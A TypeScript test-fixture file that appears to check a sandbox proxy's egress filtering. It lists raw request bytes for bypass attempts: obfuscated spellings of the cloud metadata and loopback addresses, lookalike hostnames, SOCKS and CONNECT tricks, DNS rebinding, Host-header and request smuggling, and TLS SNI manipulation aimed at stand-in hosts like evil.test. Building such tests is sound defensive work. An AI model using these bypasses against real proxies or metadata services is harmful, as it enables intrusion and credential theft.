/**
 * Ways to get more out of the door than `allowed.test` on ports 80 and 443, as data: the bytes that
 * are sent to it, and which careless proxy falls for them. Names resolve as `attackNames()` says.
 */
import type { TestInternet } from './test-internet.ts'

/** Where careless people look for a listed name, and where they look for a forbidden address. */
export type Careless = 'contains' | 'starts' | 'ends' | 'denies' | 'none'

export interface Attack {
  name: string
  bytes: Buffer
  /** The careless check that lets it through. */
  careless: Careless
}

const get = (host: string, port = 80) =>
  `GET http://${host}${port === 80 ? '' : `:${port}`}/leak HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`
const connectTo = (authority: string) =>
  `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`
const asks = (...lines: string[]) => [...lines, '', ''].join('\r\n')

/** A list of addresses as text, of which each has one spelling. */
export const FORBIDDEN_TEXT =
  /^(?:127\.0\.0\.1|10\.|172\.(?:1[6-9]|2\d|3[01])\.|192\.168\.|169\.254\.169\.254$)/

/** Addresses that no allowed name stands for, in the spellings that programs understand. */
// oxfmt-ignore
const ADDRESSES = [
  '169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '169.16689662',
  '0xa9.0xfe.0xa9.0xfe', '169.254.43518', '025177524776', '[::ffff:169.254.169.254]',
  '[::ffff:a9fe:a9fe]', '[64:ff9b::a9fe:a9fe]', '[2002:a9fe:a9fe::]', '[fd00:ec2::254]',
  '127.0.0.1', '127.1', '2130706433', '0x7f.1', '0177.0.0.1', '0', '0.0.0.0', '[::1]', '[::]',
  '[::ffff:127.0.0.1]', '[::127.0.0.1]', '10.0.0.7', '172.17.0.1', '192.168.0.1', '100.64.0.1',
  '100.100.100.200', '20.0.0.2', '20.0.0.200', '[fe80::1]', '[ff02::1]', '255.255.255.255',
] as const

const spellings: Attack[] = ADDRESSES.flatMap((address) => [
  attack(`an address by request: ${address}`, carelessOf(address), get(address)),
  attack(`an address by tunnel: ${address}`, carelessOf(address), connectTo(`${address}:443`)),
])

/** Who knows the usual spelling is fooled by the others only. */
function carelessOf(address: string): Careless {
  return FORBIDDEN_TEXT.test(address) ? 'none' : 'denies'
}

/** Names that are not the listed one, and look like it to some. */
const LOOKALIKES: readonly (readonly [string, Careless])[] = [
  ['evil.test', 'none'],
  ['notallowed.test', 'ends'],
  ['evil-allowed.test', 'ends'],
  ['allowed.test.evil.test', 'starts'],
  ['allowed.testevil.test', 'starts'],
  ['allowed-test.evil.test', 'none'],
  ['sub.allowed.test', 'ends'],
  ['evil.test%00.allowed.test', 'ends'],
  ['evil.test%2eallowed.test', 'ends'],
  ['allowed.test%2f@evil.test', 'starts'],
  ['allowed.test@evil.test', 'starts'],
  ['allowed.test:80@evil.test', 'starts'],
  ['evil.test#allowed.test', 'ends'],
  ['evil.test?allowed.test', 'ends'],
  ['evil.test\\allowed.test', 'ends'],
  ['xn--allowed-test.evil.test', 'contains'],
  ['allowed。test.evil.test', 'none'],
  ['ALLOWED.test.evil.test', 'none'],
  ['fe80::1%25.allowed.test', 'ends'],
]

const lookalikes: Attack[] = LOOKALIKES.flatMap(([host, careless]) => [
  attack(`a name by request: ${host}`, careless, get(host)),
  attack(`a name by tunnel: ${host}`, careless, connectTo(`${host}:443`)),
])

/** By the third protocol of the door; bytes of a name are what they are. */
const socksNames: readonly (readonly [string, Careless])[] = [
  ['evil.test', 'none'],
  ['evil.test\0.allowed.test', 'ends'],
  ['169.254.169.254', 'none'],
  ['2852039166', 'denies'],
  ['127.1', 'denies'],
  ['evil.test .allowed.test', 'ends'],
]

const socks: Attack[] = [
  ...socksNames.map(([name, careless]) =>
    attack(`a name by SOCKS: ${JSON.stringify(name)}`, careless, socksName(name, 443)),
  ),
  attack('an address by SOCKS', 'none', socksAddress([169, 254, 169, 254], 80)),
  attack('loopback by SOCKS', 'none', socksAddress([127, 0, 0, 1], 80)),
  attack('another port by SOCKS', 'none', socksName('allowed.test', 22)),
]

const ports: Attack[] = [22, 25, 3306, 8080, 2375].map((port) =>
  attack(`another port of a listed host: ${port}`, 'contains', connectTo(`allowed.test:${port}`)),
)

/** Answers of a resolver that are not for the sandbox. */
// oxfmt-ignore
const answers: Attack[] = [
  'private.allowed.test', 'metadata.allowed.test', 'loopback.allowed.test', 'mapped.allowed.test',
  'nat64.allowed.test', 'own.allowed.test', 'moving.allowed.test', 'zero.allowed.test',
].flatMap((host) => [
  attack(`an answer by request: ${host}`, 'ends', get(host)),
  attack(`an answer by tunnel: ${host}`, 'ends', connectTo(`${host}:443`)),
])

/** A listed host is asked for, and another one is meant. */
const fronting: Attack[] = [
  attack(
    'another Host in a request',
    'contains',
    asks('GET http://allowed.test/leak HTTP/1.1', 'Host: evil.test', 'Connection: close'),
  ),
  attack(
    'two Hosts in a request',
    'contains',
    asks(
      'GET http://allowed.test/leak HTTP/1.1',
      'Host: allowed.test',
      'Host: evil.test',
      'Connection: close',
    ),
  ),
  attack(
    'a Host with a port of its own',
    'contains',
    asks('GET http://allowed.test/leak HTTP/1.1', 'Host: allowed.test:8080', 'Connection: close'),
  ),
  attack(
    'a Host after a folded line',
    'contains',
    asks(
      'GET http://allowed.test/leak HTTP/1.1',
      'Host: allowed.test',
      ' evil.test',
      'Connection: close',
    ),
  ),
  attack(
    'another Host in a tunnel to port 80',
    'contains',
    connectTo('allowed.test:80') +
      asks('GET /leak HTTP/1.1', 'Host: evil.test', 'Connection: close'),
  ),
  attack(
    'a second authority on one connection',
    'contains',
    asks('GET http://allowed.test/first HTTP/1.1', 'Host: allowed.test') +
      asks('GET http://evil.test/leak HTTP/1.1', 'Host: evil.test', 'Connection: close'),
  ),
  attack(
    'a tunnel after a request',
    'contains',
    asks('GET http://allowed.test/first HTTP/1.1', 'Host: allowed.test') +
      connectTo('evil.test:443'),
  ),
  attack(
    'a request hidden in a body by two lengths',
    'contains',
    asks(
      'POST http://allowed.test/first HTTP/1.1',
      'Host: allowed.test',
      'Content-Length: 6',
      'Transfer-Encoding: chunked',
    ) +
      '0\r\n\r\n' +
      asks('GET http://evil.test/leak HTTP/1.1', 'Host: evil.test'),
  ),
  attack(
    'a request hidden by a wrong chunk',
    'contains',
    asks(
      'POST http://allowed.test/first HTTP/1.1',
      'Host: allowed.test',
      'Transfer-Encoding: xchunked',
    ) + asks('GET http://evil.test/leak HTTP/1.1', 'Host: evil.test'),
  ),
  attack(
    'a header ended by a bare line feed',
    'contains',
    'GET http://allowed.test/leak HTTP/1.1\nHost: evil.test\n\n',
  ),
  attack(
    'a change of protocol',
    'contains',
    asks(
      'GET http://allowed.test/first HTTP/1.1',
      'Host: allowed.test',
      'Connection: Upgrade',
      'Upgrade: leak',
    ),
  ),
  attack(
    'TLS with another name',
    'contains',
    Buffer.concat([Buffer.from(connectTo('allowed.test:443')), hello('evil.test', [])]),
  ),
  attack(
    'TLS with no name',
    'contains',
    Buffer.concat([Buffer.from(connectTo('allowed.test:443')), hello(undefined, [])]),
  ),
  attack(
    'TLS with a hidden name',
    'contains',
    Buffer.concat([Buffer.from(connectTo('allowed.test:443')), hello('allowed.test', [0xfe0d])]),
  ),
  attack(
    'TLS with a NUL in its name',
    'contains',
    Buffer.concat([
      Buffer.from(connectTo('allowed.test:443')),
      hello('evil.test\0.allowed.test', []),
    ]),
  ),
  attack(
    'another language in a tunnel to port 443',
    'contains',
    `${connectTo('allowed.test:443')}SSH-2.0-leak\r\n`,
  ),
  attack('a name server over HTTPS', 'none', connectTo('dns.evil.test:443')),
  attack(
    'an https address in a request',
    'none',
    asks('GET https://evil.test/leak HTTP/1.1', 'Host: evil.test'),
  ),
]

export const ATTACKS: readonly Attack[] = [
  ...spellings,
  ...lookalikes,
  ...socks,
  ...ports,
  ...answers,
  ...fronting,
]

/** What the resolver of the test says; a name that moves is allowed for its first answer only. */
export function attackNames({ names }: TestInternet): void {
  const fixed: Record<string, string> = {
    'private.allowed.test': '10.0.0.7',
    'metadata.allowed.test': '169.254.169.254',
    'loopback.allowed.test': '127.0.0.1',
    'mapped.allowed.test': '::ffff:10.0.0.7',
    'nat64.allowed.test': '64:ff9b::a00:7',
    'own.allowed.test': '20.0.0.200',
    'zero.allowed.test': '0.0.0.0',
  }
  for (const [name, address] of Object.entries(fixed)) names.set(name, () => [address])
  // Every look shows another address: who resolves twice checks one and dials the other.
  let looks = 0
  names.set('moving.allowed.test', () => [looks++ % 2 === 0 ? '20.0.0.1' : '127.0.0.1'])
}

function attack(name: string, careless: Careless, bytes: string | Buffer): Attack {
  return { name, careless, bytes: Buffer.from(bytes) }
}

function socksName(name: string, port: number): Buffer {
  const bytes = Buffer.from(name, 'latin1')
  return Buffer.concat([
    Buffer.from([5, 1, 0, 5, 1, 0, 3, bytes.length]),
    bytes,
    Buffer.from([port >> 8, port & 255]),
  ])
}

function socksAddress(address: readonly number[], port: number): Buffer {
  return Buffer.from([5, 1, 0, 5, 1, 0, 1, ...address, port >> 8, port & 255])
}

/** A TLS greeting, well-formed but for what is asked. */
function hello(name: string | undefined, more: readonly number[]): Buffer {
  const u16 = (value: number) => Buffer.from([value >> 8, value & 255])
  const vector = (bytes: Buffer) => Buffer.concat([u16(bytes.length), bytes])
  const extension = (type: number, body: Buffer) => Buffer.concat([u16(type), vector(body)])
  const named =
    name === undefined
      ? []
      : [
          extension(
            0,
            vector(Buffer.concat([Buffer.from([0]), vector(Buffer.from(name, 'latin1'))])),
          ),
        ]
  const extensions = vector(
    Buffer.concat([...named, ...more.map((type) => extension(type, Buffer.alloc(4)))]),
  )
  const body = Buffer.concat([
    Buffer.from([3, 3]),
    Buffer.alloc(32, 7),
    Buffer.from([0, 0, 2, 0x13, 1, 1, 0]),
    extensions,
  ])
  const message = Buffer.concat([Buffer.from([1, 0]), u16(body.length), body])
  return Buffer.concat([Buffer.from([22, 3, 1]), vector(message)])
}
